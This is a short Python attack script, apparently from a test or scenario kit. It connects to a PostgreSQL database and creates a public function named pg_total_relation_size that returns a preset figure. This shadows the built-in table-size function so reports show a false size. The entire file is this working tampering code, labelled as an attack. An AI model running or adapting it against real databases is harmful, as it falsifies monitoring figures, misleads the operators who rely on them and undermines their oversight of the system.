"""Shadows a function that tells the size of tables: the report shall show a figure of its own."""

import os

import psycopg
from kit import TARGETS

SHADOW = """
CREATE FUNCTION public.pg_total_relation_size(oid) RETURNS bigint
LANGUAGE sql AS 'SELECT {figure}::bigint'
"""


def attack() -> None:
    with psycopg.connect(os.environ["DATABASE_URL"]) as connection:
        connection.execute(SHADOW.format(figure=TARGETS["figure"]).encode())
